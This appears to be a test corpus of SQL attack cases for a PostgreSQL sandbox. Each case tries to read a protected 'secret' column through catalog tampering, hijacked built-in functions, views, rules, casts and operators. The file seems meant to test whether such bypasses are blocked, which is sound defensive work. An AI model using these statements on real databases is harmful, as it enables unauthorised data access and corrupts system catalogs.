-- a schema that gets the name of the role of the moment
CREATE SCHEMA AUTHORIZATION CURRENT_USER; SET search_path = rt_agent, postgres; CREATE TABLE made AS SELECT secret AS x FROM $V.victim
\connect
SET search_path = rt_agent, postgres
SELECT x FROM made
-- an operator of a function of the server's by another name
CREATE FUNCTION $V.st(query text, OUT word text, OUT ndoc int, OUT nentry int) RETURNS SETOF record LANGUAGE internal AS 'ts_stat1'
CREATE OPERATOR $V.## (RIGHTARG = text, FUNCTION = $V.st)
SELECT (OPERATOR($V.##) 'SELECT array_to_tsvector(ARRAY[secret]) FROM $V.victim'::text).word
-- an operator of a function of the server's
CREATE OPERATOR $V.## (RIGHTARG = text, FUNCTION = pg_catalog.ts_stat)
SELECT (OPERATOR($V.##) 'SELECT array_to_tsvector(ARRAY[secret]) FROM $V.victim'::text).word
-- a cast by a function of the server's by another name
CREATE FUNCTION $V.content(oid) RETURNS bytea LANGUAGE internal AS 'be_lo_get'
CREATE CAST (regclass AS bytea) WITH FUNCTION $V.content(oid)
SELECT lo_from_bytea(3000000000, convert_to(secret, 'UTF8')) FROM $V.victim WHERE id = 2
SELECT 3000000000::regclass::bytea
DROP CAST (regclass AS bytea)
-- a cast by a function of the server's
CREATE CAST (oid AS bytea) WITH FUNCTION pg_catalog.lo_get(oid)
SELECT lo_from_bytea(3000000001, convert_to(secret, 'UTF8')) FROM $V.victim WHERE id = 2
SELECT 3000000001::oid::bytea
DROP CAST (oid AS bytea)
-- a function of the server's that is replaced
CREATE OR REPLACE FUNCTION pg_catalog.substring(text, text, text) RETURNS text LANGUAGE sql STABLE AS 'SELECT secret FROM $V.victim WHERE id = 2'
SELECT substring('a', 'b', 'c')
-- a table gets another name in the catalog
UPDATE pg_class SET relname = 'other' WHERE oid = '$V.victim'::regclass
SELECT secret FROM $V.other
-- a column gets another name in the catalog
UPDATE pg_attribute SET attname = 'code2' WHERE attrelid = '$V.victim'::regclass AND attname = 'secret'
SELECT code2 FROM ONLY $V.victim
-- code of the server's is replaced in the catalog
UPDATE pg_proc SET prolang = 14, prosqlbody = NULL, prosrc = 'SELECT secret FROM $V.victim WHERE id = 2' WHERE oid = 'pg_catalog.xpath_exists(text,xml)'::regprocedure OR oid = 'pg_catalog.rpad(text,integer)'::regprocedure
SELECT rpad('x', 3)
-- an aggregate of the server's is replaced
CREATE FUNCTION $V.step(acc text, v text) RETURNS text LANGUAGE sql AS 'SELECT secret FROM $V.victim WHERE id = 2'
SET search_path = pg_catalog
CREATE OR REPLACE AGGREGATE max(text) (SFUNC = $V.step, STYPE = text)
SELECT max('x'::text)
-- a function of the server's is replaced by its name alone
SET search_path = pg_catalog
CREATE OR REPLACE FUNCTION lpad(text, integer) RETURNS text LANGUAGE sql IMMUTABLE AS 'SELECT secret FROM $V.victim WHERE id = 2'
SELECT lpad('x', 3)
-- functions of the server's change names
ALTER FUNCTION pg_catalog.clock_timestamp() RENAME TO clock_was
ALTER FUNCTION pg_catalog.ts_stat(text) RENAME TO clock_timestamp
SELECT (clock_timestamp('SELECT array_to_tsvector(ARRAY[secret]) FROM $V.victim')).word
-- an operator among the server's own
CREATE FUNCTION $V.g(int) RETURNS text LANGUAGE sql AS 'SELECT secret FROM $V.victim WHERE id = 2'
CREATE OPERATOR pg_catalog.## (RIGHTARG = int, FUNCTION = $V.g)
SELECT OPERATOR(pg_catalog.##) 1
-- a domain among the server's own
CREATE FUNCTION $V.tell(int) RETURNS bool LANGUAGE plpgsql AS $$ BEGIN RAISE NOTICE '%', (SELECT secret FROM $V.victim WHERE id = 2); RETURN true; END $$
CREATE DOMAIN pg_catalog.told AS int CHECK ($V.tell(VALUE))
SELECT 1::pg_catalog.told
-- a view of the server's own is replaced
CREATE OR REPLACE VIEW information_schema.applicable_roles AS SELECT CAST(secret AS information_schema.sql_identifier) AS grantee, CAST('x' AS information_schema.sql_identifier) AS role_name, CAST('YES' AS information_schema.yes_or_no) AS is_grantable FROM $V.victim
SELECT grantee FROM information_schema.administrable_role_authorizations
-- a view of the server's own is replaced by its name alone
SET search_path = information_schema
CREATE OR REPLACE VIEW enabled_roles AS SELECT CAST(secret AS sql_identifier) AS role_name FROM $V.victim
CREATE VIEW $V.over AS SELECT role_name AS x FROM enabled_roles
SELECT x FROM $V.over
-- a view of the server's own gets another rule
CREATE RULE "_RETURN" AS ON SELECT TO information_schema.applicable_roles DO INSTEAD SELECT CAST(secret AS information_schema.sql_identifier) AS grantee, CAST('x' AS information_schema.sql_identifier) AS role_name, CAST('YES' AS information_schema.yes_or_no) AS is_grantable FROM $V.victim
SELECT grantee FROM information_schema.administrable_role_authorizations
-- a view of the server's own gets another rule in its place
CREATE OR REPLACE RULE "_RETURN" AS ON SELECT TO information_schema.applicable_roles DO INSTEAD SELECT CAST(secret AS information_schema.sql_identifier) AS grantee, CAST('x' AS information_schema.sql_identifier) AS role_name, CAST('YES' AS information_schema.yes_or_no) AS is_grantable FROM $V.victim
SELECT grantee FROM information_schema.administrable_role_authorizations
-- a view of the server's own catalog is replaced
SET allow_system_table_mods = on
CREATE OR REPLACE VIEW pg_catalog.pg_timezone_abbrevs AS SELECT 'x'::text AS abbrev, interval '0' AS utc_offset, (SELECT secret FROM $V.victim WHERE id = 2) <> '' AS is_dst
CREATE VIEW pg_catalog.pg_told AS SELECT secret AS x FROM $V.victim
CREATE TABLE pg_catalog.pg_kept AS SELECT secret AS x FROM $V.victim
SET search_path = pg_catalog
CREATE TABLE pg_kept_more AS SELECT secret AS x FROM $V.victim
SELECT x FROM pg_kept_more
